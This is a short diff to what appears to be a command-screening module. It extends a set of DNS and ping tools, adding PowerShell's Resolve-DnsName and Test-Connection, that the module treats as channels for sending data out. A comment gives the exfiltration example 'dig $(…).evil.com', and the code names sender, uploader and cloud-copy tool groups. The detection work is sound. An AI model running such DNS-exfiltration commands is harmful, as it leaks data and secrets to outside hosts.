@@ -98,6 +98,7 @@ _COPY_VERBS = frozenset({"cp", "mv", "sync", "rsync", "copy", "copyto", "move", 
 # A name looked up carries what it is built from to the name servers (`dig $(…).evil.com`).
 _RESOLVERS = frozenset(
     {"dig", "nslookup", "host", "drill", "kdig", "delv", "ping", "ping6", "getent", "resolvectl"}
+    | {"Resolve-DnsName", "resolve-dnsname", "Test-Connection", "test-connection"}
 )
 _SENDERS = _RAW | _COPIES | _CLOUD_COPY | _RESOLVERS | _UPLOADERS | _BACKUPS
 # Programs that open a URL in a browser, which fetches it: what is substituted into it
